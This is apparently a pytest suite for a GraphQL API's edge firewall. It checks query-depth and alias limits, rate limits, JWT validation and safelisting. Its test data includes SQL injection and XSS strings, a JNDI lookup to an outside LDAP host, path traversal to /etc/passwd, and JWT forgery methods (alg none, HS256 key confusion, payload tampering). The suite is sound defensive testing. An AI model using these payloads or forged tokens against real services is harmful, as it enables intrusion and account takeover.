"""The edge Worker's WAF: an attack corpus is blocked with the right codes, legitimate traffic passes."""

from __future__ import annotations

import hashlib
import hmac
import json
import time
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from deploy.edge import EdgeConfig, load_operations
from tests.deploy.conftest import Keys, new_client_address

pytestmark = pytest.mark.platform

LEGITIMATE = "{ plans { code name } }"


def _post(config: EdgeConfig, body: Any, headers: dict[str, str] | None = None, client: str | None = None) -> httpx.Response:
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    all_headers = {"content-type": "application/json", "cf-connecting-ip": client or new_client_address(), **(headers or {})}
    return httpx.post(config.url, content=content, headers=all_headers, timeout=30, trust_env=False)


def _error_code(response: httpx.Response) -> str:
    return response.json()["errors"][0]["extensions"]["code"]


def _deep_query(levels: int) -> str:
    return "{ users { edges { node { " + "organisation { " * levels + "name" + " }" * levels + " } } } }"


ATTACKS = {
    "deep query": ({"query": _deep_query(12)}, 400, "QUERY_TOO_DEEP"),
    "alias bomb": ({"query": "{ " + " ".join(f"a{i}: __typename" for i in range(500)) + " }"}, 400, "TOO_MANY_ALIASES"),
    "fragment alias bomb": (
        {"query": "query { ...F ...F ...F ...F ...F } fragment F on Query { a: __typename b: __typename c: __typename d: __typename e: __typename }"},
        400,
        "TOO_MANY_ALIASES",
    ),
    "root field flood": ({"query": "{ " + "plans { code } " * 11 + "}"}, 400, "TOO_MANY_ROOT_FIELDS"),
    "token flood": ({"query": "{ plans { " + "code " * 3000 + "} }"}, 400, "TOKEN_LIMIT_EXCEEDED"),
    "huge body": ({"query": LEGITIMATE, "variables": {"padding": "x" * 200_000}}, 413, "BODY_TOO_LARGE"),
    "batch of 1,000 operations": ([{"query": "{ __typename }"}] * 1000, 400, "BATCHING_NOT_ALLOWED"),
    "introspection": ({"query": "{ __schema { types { name } } }"}, 403, "INTROSPECTION_DISABLED"),
    "nested introspection": ({"query": "{ plans { code } __type(name: \"Plan\") { name } }"}, 403, "INTROSPECTION_DISABLED"),
}

INJECTIONS = {
    "SQL tautology": "x' OR 1=1 --",
    "SQL UNION SELECT": "1 UNION ALL SELECT password FROM users",
    "stacked statement": "team; DROP TABLE plans; --",
    "time delay": "team' AND pg_sleep(5)--",
    "script tag": "<script>alert(document.cookie)</script>",
    "JNDI lookup": "${jndi:ldap://198.51.100.9/a}",
    "path traversal": "../../../etc/passwd",
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_blocked(waf_edge: tuple[EdgeConfig, Path], name: str) -> None:
    body, status, code = ATTACKS[name]

    response = _post(waf_edge[0], body)

    assert response.status_code == status, response.text
    assert _error_code(response) == code


@pytest.mark.parametrize("name", list(INJECTIONS))
def test_injection_blocked(waf_edge: tuple[EdgeConfig, Path], name: str) -> None:
    body = {"query": "query ($code: String!) { plan(code: $code) { name } }", "variables": {"code": INJECTIONS[name]}}

    response = _post(waf_edge[0], body)

    assert response.status_code == 400, response.text
    assert _error_code(response) == "INJECTION_DETECTED"


def test_nosql_operator_key_blocked(waf_edge: tuple[EdgeConfig, Path]) -> None:
    body = {"query": "query ($code: String!) { plan(code: $code) { name } }", "variables": {"filter": {"$where": "1"}}}

    response = _post(waf_edge[0], body)

    assert response.status_code == 400
    assert _error_code(response) == "INJECTION_DETECTED"


def test_legitimate_query_passes(waf_edge: tuple[EdgeConfig, Path]) -> None:
    response = _post(waf_edge[0], {"query": LEGITIMATE})

    assert response.status_code == 200, response.text
    assert "errors" not in response.json()
    assert {plan["code"] for plan in response.json()["data"]["plans"]}


def test_legitimate_variables_pass(waf_edge: tuple[EdgeConfig, Path]) -> None:
    body = {"query": "query ($email: String!) { userByEmail(email: $email) { id } }", "variables": {"email": "o'brien@example.com"}}

    response = _post(waf_edge[0], body)

    assert response.status_code == 200, response.text
    assert response.json()["data"] == {"userByEmail": None}


def test_form_post_rejected(waf_edge: tuple[EdgeConfig, Path]) -> None:
    response = _post(waf_edge[0], b"query=%7B__typename%7D", headers={"content-type": "application/x-www-form-urlencoded"})

    assert response.status_code == 415
    assert _error_code(response) == "UNSUPPORTED_MEDIA_TYPE"


def test_block_logged_with_reason(waf_edge: tuple[EdgeConfig, Path]) -> None:
    client = new_client_address()
    _post(waf_edge[0], {"query": _deep_query(15)}, client=client)
    time.sleep(0.5)

    lines = [json.loads(line) for line in waf_edge[1].read_text().splitlines() if line.startswith("{")]
    blocked = [line for line in lines if line.get("event") == "request_blocked" and line.get("client") == client]

    assert len(blocked) == 1
    assert blocked[0]["code"] == "QUERY_TOO_DEEP"
    # Fifteen organisation levels below users, edges and node, plus the name field.
    assert "19 levels deep" in blocked[0]["reason"]
    assert blocked[0]["request_id"]


def test_client_rate_limit(waf_edge: tuple[EdgeConfig, Path]) -> None:
    client = new_client_address()
    statuses = [_post(waf_edge[0], {"query": "{ __typename }"}, client=client).status_code for _ in range(20)]

    over = _post(waf_edge[0], {"query": "{ __typename }"}, client=client)
    other_client = _post(waf_edge[0], {"query": "{ __typename }"})

    assert statuses == [200] * 20
    assert over.status_code == 429
    assert _error_code(over) == "RATE_LIMITED"
    assert int(over.headers["retry-after"]) >= 1
    assert other_client.status_code == 200


def test_token_rate_limit(waf_edge: tuple[EdgeConfig, Path], keys: Keys) -> None:
    headers = {"authorization": f"Bearer {keys.token(sub='rate-limited-user')}"}
    statuses = [_post(waf_edge[0], {"query": "{ __typename }"}, headers=headers).status_code for _ in range(5)]

    over = _post(waf_edge[0], {"query": "{ __typename }"}, headers=headers)

    assert statuses == [200] * 5
    assert over.status_code == 429
    assert _error_code(over) == "RATE_LIMITED"


# -- tokens ------------------------------------------------------------------------------------

def _forged_tokens(keys: Keys) -> dict[str, tuple[str, str]]:
    now = int(time.time())
    claims = {"sub": "user-1", "iss": "https://identity.labs64.test/tenant", "aud": "labs64-api", "exp": now + 300}
    public_pem = keys.rsa.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    none_header = jwt.utils.base64url_encode(b'{"alg":"none","typ":"JWT","kid":"rsa-1"}').decode()
    none_payload = jwt.utils.base64url_encode(json.dumps(claims).encode()).decode()
    return {
        "signed by a stranger's key": (keys.token(key=keys.stranger), "INVALID_TOKEN"),
        "alg none": (f"{none_header}.{none_payload}.", "INVALID_TOKEN"),
        "HS256 with the public key as secret": (_hs256_token(claims, public_pem), "INVALID_TOKEN"),
        "expired": (keys.token(exp=now - 3600), "TOKEN_EXPIRED"),
        "wrong issuer": (keys.token(iss="https://attacker.example/tenant"), "INVALID_TOKEN"),
        "wrong audience": (keys.token(aud="another-api"), "INVALID_TOKEN"),
        "unknown key id": (keys.token(kid="rotated-away"), "INVALID_TOKEN"),
        "no exp claim": (keys.token(exp=None), "INVALID_TOKEN"),
        "tampered payload": (_tampered(keys.token()), "INVALID_TOKEN"),
        "not a JWT": ("not-a-jwt", "INVALID_TOKEN"),
    }


def _hs256_token(claims: dict[str, Any], secret: bytes) -> str:
    # PyJWT refuses PEM keys as HMAC secrets, so the token is signed by hand.
    header = jwt.utils.base64url_encode(b'{"alg":"HS256","typ":"JWT","kid":"rsa-1"}')
    payload = jwt.utils.base64url_encode(json.dumps(claims).encode())
    signature = hmac.new(secret, header + b"." + payload, hashlib.sha256).digest()
    return b".".join([header, payload, jwt.utils.base64url_encode(signature)]).decode()


def _tampered(token: str) -> str:
    header, payload, signature = token.split(".")
    claims = json.loads(jwt.utils.base64url_decode(payload))
    claims["sub"] = "admin"
    return ".".join([header, jwt.utils.base64url_encode(json.dumps(claims).encode()).decode(), signature])


FORGED_NAMES = [
    "signed by a stranger's key", "alg none", "HS256 with the public key as secret", "expired", "wrong issuer",
    "wrong audience", "unknown key id", "no exp claim", "tampered payload", "not a JWT",
]


@pytest.mark.parametrize("name", FORGED_NAMES)
def test_forged_token_blocked(waf_edge: tuple[EdgeConfig, Path], keys: Keys, name: str) -> None:
    token, code = _forged_tokens(keys)[name]

    response = _post(waf_edge[0], {"query": LEGITIMATE}, headers={"authorization": f"Bearer {token}"})

    assert response.status_code == 401, response.text
    assert _error_code(response) == code


@pytest.mark.parametrize("alg", ["RS256", "ES256"])
def test_valid_token_passes(waf_edge: tuple[EdgeConfig, Path], keys: Keys, alg: str) -> None:
    response = _post(waf_edge[0], {"query": LEGITIMATE}, headers={"authorization": f"Bearer {keys.token(alg=alg)}"})

    assert response.status_code == 200, response.text
    assert response.json()["data"]["plans"]
    assert response.headers["cache-control"] == "private, no-store"


# -- safelist ----------------------------------------------------------------------------------

def test_safelist_rejects_free_form_query(safelist_edge: EdgeConfig) -> None:
    response = _post(safelist_edge, {"query": LEGITIMATE})

    assert response.status_code == 403
    assert _error_code(response) == "OPERATION_NOT_SAFELISTED"


def test_safelist_accepts_persisted_operation(safelist_edge: EdgeConfig) -> None:
    plans = next(operation for operation in load_operations() if operation.name == "Plans")
    body = {"extensions": {"persistedQuery": {"version": 1, "sha256Hash": plans.id}}}

    response = _post(safelist_edge, body)

    assert response.status_code == 200, response.text
    assert response.json()["data"]["plans"]
